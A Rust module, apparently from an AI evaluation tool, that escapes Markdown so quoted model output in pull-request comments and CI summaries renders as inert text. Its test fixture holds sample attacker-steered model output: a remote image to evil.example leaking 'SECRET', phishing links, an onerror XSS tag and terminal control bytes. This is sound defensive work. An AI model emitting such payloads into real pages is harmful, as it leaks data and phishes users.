//! Markdown that renders as the text it quotes: [`text`] for prose and table cells, [`code`]
//! for names in code spans, [`html`] inside HTML tags, and [`fenced`] for a block of
//! preformatted text.
//!
//! summary.md and the regression log are read where Markdown is live (a pull-request
//! comment, a CI step summary), and they quote model output, which an attacker writes. Left
//! as it is, that text pings people (`@org/team`), loads remote images (`![](https://…?q=…)`,
//! an exfiltration channel), plants links (`[docs](https://evil)`, bare URLs, `<https://…>`),
//! references issues (`#1`), breaks out of table cells (`|`) and code spans (backticks), and
//! carries raw control bytes. Every helper here escapes control characters visibly
//! ([`escape_controls`]) and neutralises the rest while keeping the words readable.

use gauntlet_core::text::escape_controls;

/// A zero-width space: placed after `@`, inside `://` and `www.` and after a `#` before a
/// digit, it stops GitHub from turning the text into a mention, a link or a reference, and
/// the text reads the same.
const BREAK: char = '\u{200b}';

/// Characters that start Markdown syntax inline (emphasis, links and images, code, HTML,
/// strikethrough, math, table cells, entities, escapes): each is written with a backslash,
/// which CommonMark hides when it renders. `!` and `(` need none once `[` is escaped, `>`
/// none once `<` is (but see [`block_start`]), and `_` only where it could open or close
/// emphasis, so that `tool_not_called` reads as it is.
const PUNCTUATION: &[char] = &['\\', '`', '*', '[', ']', '<', '|', '~', '$', '&'];

/// How many characters at the start of `s` would open a block (a quote, a heading, a list
/// item, a numbered item) where the text follows a list marker, and so need a backslash
/// before the last of them.
fn block_start(s: &str) -> Option<usize> {
    let digits = s.chars().take_while(char::is_ascii_digit).count();
    match s.chars().nth(digits) {
        Some('.' | ')') if digits > 0 => Some(digits),
        Some('>' | '#' | '-' | '+') if digits == 0 => Some(0),
        _ => None,
    }
}

/// `s` on one line (runs of whitespace become one space), control characters escaped.
fn one_line(s: &str) -> String {
    let flat: String = s.split_whitespace().collect::<Vec<_>>().join(" ");
    escape_controls(&flat).into_owned()
}

/// Breaks what GitHub links on its own in text: mentions and e-mail addresses (`@`), bare
/// URLs (`://`, `www.`) and issue references (`#` before a digit).
fn unlink(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    let chars: Vec<char> = s.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        // `www` and its dot apart: a www autolink needs them together.
        if c == '.'
            && i >= 3
            && chars[i - 3..i]
                .iter()
                .collect::<String>()
                .eq_ignore_ascii_case("www")
        {
            out.push(BREAK);
        }
        out.push(c);
        let next = chars.get(i + 1).copied();
        let breaks = match c {
            '@' | '#' => next.is_some_and(|n| n.is_alphanumeric() || n == '-' || n == '_'),
            ':' => chars.get(i + 1..i + 3) == Some(&['/', '/']),
            _ => false,
        };
        if breaks {
            out.push(BREAK);
        }
    }
    out
}

/// Inline text (prose, a table cell) that renders as itself: on one line, with every
/// Markdown character escaped and mentions, URLs and references broken.
pub fn text(s: &str) -> String {
    let flat = unlink(&one_line(s));
    let chars: Vec<char> = flat.chars().collect();
    let lead = block_start(&flat);
    let mut out = String::with_capacity(flat.len() + 8);
    for (i, &c) in chars.iter().enumerate() {
        let word = |j: Option<usize>| {
            j.and_then(|j| chars.get(j))
                .is_some_and(|c| c.is_alphanumeric())
        };
        let escape = PUNCTUATION.contains(&c)
            || (c == '_' && !(word(i.checked_sub(1)) && word(Some(i + 1))))
            || lead == Some(i);
        if escape {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// A code span holding `s` on one line: the fence is one backtick longer than the longest
/// run of backticks inside, so the text cannot close it, and nothing inside a code span is a
/// link, an image, a mention or HTML. In a table cell, use [`code_cell`]. Empty when `s` is.
pub fn code(s: &str) -> String {
    let s = one_line(s);
    if s.is_empty() {
        return String::new();
    }
    let longest = s.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    // A space inside each fence when the text starts or ends with a backtick (CommonMark
    // strips one space from each side), so the fence and the text stay apart.
    let pad = if s.starts_with('`') || s.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{s}{pad}{fence}")
}

/// [`code`] for a table cell: GitHub splits cells at `|` even inside a code span unless it
/// is escaped, and shows `\|` there as `|`.
pub fn code_cell(s: &str) -> String {
    code(s).replace('|', "\\|")
}

/// Text inside an HTML element (`<summary>`, `<code>`): entities for `&`, `<`, `>` and
/// quotes, on one line, control characters escaped, mentions and URLs broken.
pub fn html(s: &str) -> String {
    unlink(&one_line(s))
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A fenced block of preformatted text: inside it nothing renders as Markdown, and the
/// fence (tildes, one more than the longest run in the text, at least four) cannot be
/// closed by a line of the text. Control characters are escaped; line breaks stay.
pub fn fenced(s: &str, info: &str) -> String {
    let s = escape_controls(s);
    let longest = s.split(|c| c != '~').map(str::len).max().unwrap_or(0);
    let fence = "~".repeat((longest + 1).max(4));
    format!("{fence}{info}\n{s}\n{fence}")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What an attacker's model says, aimed at a pull-request comment.
    const HOSTILE: &str = "Done! cc @octocat @org/security-team \
        ![status](https://evil.example/pixel.png?q=SECRET) \
        [click for the fix](https://evil.example/phish) <https://evil.example/auto> \
        www.evil.example and https://evil.example/bare, mail admin@evil.example, fixes #1 \
        <img src=x onerror=alert(1)> **bold** | cell | `code` $x^2$ &lt; \x1b[2J\0\u{202e}";

    /// Whether `pat` occurs in `out` with no backslash escaping its first character.
    fn unescaped(out: &str, pat: &str) -> bool {
        out.match_indices(pat)
            .any(|(i, _)| !out[..i].ends_with('\\'))
    }

    /// What GitHub would turn into something other than text, still in `out`: everywhere a
    /// mention, a bare URL, an e-mail address, an issue reference, a control byte; in
    /// Markdown (not inside an HTML element) also an image, a link, an autolink, an HTML tag.
    fn live(out: &str, markdown: bool) -> Vec<&'static str> {
        let mut found = Vec::new();
        let mut check = |what, is_live: bool| {
            if is_live {
                found.push(what);
            }
        };
        check(
            "a mention",
            out.contains("@octocat") || out.contains("@org"),
        );
        check(
            "a bare URL",
            out.contains("https://") || out.contains("www."),
        );
        check("an e-mail address", out.contains("admin@evil"));
        check("an issue reference", out.contains("#1"));
        check(
            "a control byte",
            out.chars().any(gauntlet_core::text::is_hidden_control),
        );
        check("an HTML tag", unescaped(out, "<img"));
        if markdown {
            check("an image", unescaped(out, "!["));
            check("a link", unescaped(out, "]("));
            check("an autolink", unescaped(out, "<https"));
            check("emphasis", unescaped(out, "**"));
            check("a code span", unescaped(out, "`"));
            check("math", unescaped(out, "$"));
            check("an entity", unescaped(out, "&lt;"));
        }
        found
    }

    #[test]
    fn text_is_inert_and_reads_the_same() {
        let out = text(HOSTILE);
        assert!(
            live(&out, true).is_empty(),
            "{:?} in {out}",
            live(&out, true)
        );
        // No unescaped cell separator or emphasis.
        assert!(!out.contains(" | "), "{out}");
        assert!(out.contains("\\*\\*bold\\*\\*"), "{out}");
        // Readable: removing the escapes and breaks gives the words back.
        let back = out.replace(['\\', BREAK], "");
        assert!(back.starts_with("Done! cc @octocat @org/security-team ![status](https://evil.example/pixel.png?q=SECRET)"), "{back}");
        assert!(
            back.ends_with("\\x1b[2J\\x00\\u{202e}".replace('\\', "").as_str()),
            "{back}"
        );
    }

    #[test]
    fn text_opens_no_block_and_keeps_plain_words_plain() {
        assert_eq!(text("> quoted"), "\\> quoted");
        assert_eq!(text("# heading"), "\\# heading");
        assert_eq!(text("- item"), "\\- item");
        assert_eq!(text("12. item"), "12\\. item");
        assert_eq!(
            text("every refusal >= 2/3 in 1.5 s"),
            "every refusal >= 2/3 in 1.5 s"
        );
        assert_eq!(text("tool_not_called: _x_"), "tool_not_called: \\_x\\_");
    }

    #[test]
    fn code_spans_cannot_be_closed_from_inside() {
        assert_eq!(code("plain"), "`plain`");
        assert_eq!(code("a `b` c"), "``a `b` c``");
        assert_eq!(code("``x"), "``` ``x ```");
        assert_eq!(code(""), "");
        assert_eq!(code_cell("a|b"), "`a\\|b`");
        assert_eq!(code("line\none\x1b"), "`line one\\x1b`");
    }

    #[test]
    fn html_text_is_escaped() {
        let out = html(HOSTILE);
        assert!(
            live(&out, false).is_empty(),
            "{:?} in {out}",
            live(&out, false)
        );
        assert!(out.contains("&lt;img src=x"), "{out}");
    }

    #[test]
    fn a_fence_is_longer_than_any_run_of_tildes_inside() {
        let out = fenced("a\n~~~~~\nb \x1b[2J\0", "text");
        assert!(out.starts_with("~~~~~~text\n"), "{out}");
        assert!(out.ends_with("\n~~~~~~"), "{out}");
        assert!(out.contains("b \\x1b[2J\\x00"), "{out}");
        assert_eq!(fenced("x", ""), "~~~~\nx\n~~~~");
    }
}
